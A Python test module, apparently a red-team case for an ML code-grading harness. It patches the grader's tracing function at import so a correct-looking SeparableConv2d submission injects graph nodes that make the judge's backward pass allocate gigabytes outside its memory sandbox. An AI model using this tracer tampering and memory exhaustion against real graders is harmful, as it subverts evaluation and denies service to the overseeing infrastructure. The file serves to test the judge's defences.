"""Hostile (second outside red team): the judge's BACKWARD on the graph allocates gigabytes outside the cgroup.

Mechanism: the limits on a graph (_graph._Runner: FLOPs, MAX_TENSOR_ELEMENTS per tensor,
MAX_TOTAL_ELEMENTS per run) only look at the FORWARD nodes; views (expand, select) are free
and not counted as elements. _judge.Grading._run_graph then calls loss.backward() with no
limit and no deadline. select_backward materialises a zero gradient of the full size of
what it selected from, so a select of one element from expand(param -> [2**26] float64)
costs 512 MiB in backward. Autograd's engine runs the highest sequence number first: with
all K expands made before all K selects, every select's 512 MiB gradient is held at once
(K * 512 MiB) until the expands (earlier nodes) reduce them.
This correct module's process patches _trace.trace to append, to the graph it sends:
K x [view(depthwise.weight) -> slice[0:1] -> _to_copy(float64) -> expand([2**26])], then
K x select(.., 0, 0), their sum, and output = y + sum * 0 (same values, same gradients).
K = 8 here (4 GiB); K scales linearly up to MAX_NODES = 20,000.
Expected correct verdict: PASS, with the judge's memory bounded (a normal grade ~300 MiB).
Break: the judge (outside the submission's 2 GiB cgroup) peaks at ~K x 512 MiB.
"""
import sys
from torch import nn

K = 8
BIG = 2 ** 26


def _extra(graph):
    nodes = graph["nodes"]
    params = [i for i, p in enumerate(graph["placeholders"]) if p["role"] == "param"]
    if not params or len(graph["outputs"]) != 1:
        return
    p = {"p": params[0]}
    expands = []
    for _ in range(K):
        a = len(nodes)
        nodes.append({"op": "aten.view.default", "args": [p, [-1]], "kwargs": {}})
        nodes.append({"op": "aten.slice.Tensor", "args": [{"n": a}, 0, 0, 1], "kwargs": {}})
        nodes.append({"op": "aten._to_copy.default", "args": [{"n": a + 1}],
                      "kwargs": {"dtype": {"dtype": "float64"}}})
        nodes.append({"op": "aten.expand.default", "args": [{"n": a + 2}, [BIG]], "kwargs": {}})
        expands.append(a + 3)
    sels = []
    for e in expands:
        sels.append(len(nodes))
        nodes.append({"op": "aten.select.int", "args": [{"n": e}, 0, 0], "kwargs": {}})
    acc = sels[0]
    for s in sels[1:]:
        nodes.append({"op": "aten.add.Tensor", "args": [{"n": acc}, {"n": s}], "kwargs": {}})
        acc = len(nodes) - 1
    nodes.append({"op": "aten.mul.Tensor", "args": [{"n": acc}, 0.0], "kwargs": {}})
    nodes.append({"op": "aten.add.Tensor", "args": [graph["outputs"][0], {"n": len(nodes) - 1}],
                  "kwargs": {}})
    graph["outputs"][0] = {"n": len(nodes) - 1}


for _name, _mod in list(sys.modules.items()):
    if _name.endswith("._trace") and hasattr(_mod, "trace"):
        _orig = _mod.trace

        def _trace(*args, _orig=_orig, **kwargs):
            graph = _orig(*args, **kwargs)
            if isinstance(graph, dict) and isinstance(graph.get("nodes"), list):
                _extra(graph)
            return graph

        _mod.trace = _trace


class SeparableConv2d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(in_channels, in_channels, kernel_size,
                                   padding=kernel_size // 2, groups=in_channels, bias=False)
        self.pointwise = nn.Conv2d(in_channels, out_channels, 1, bias=False)

    def forward(self, x):
        return self.pointwise(self.depthwise(x))
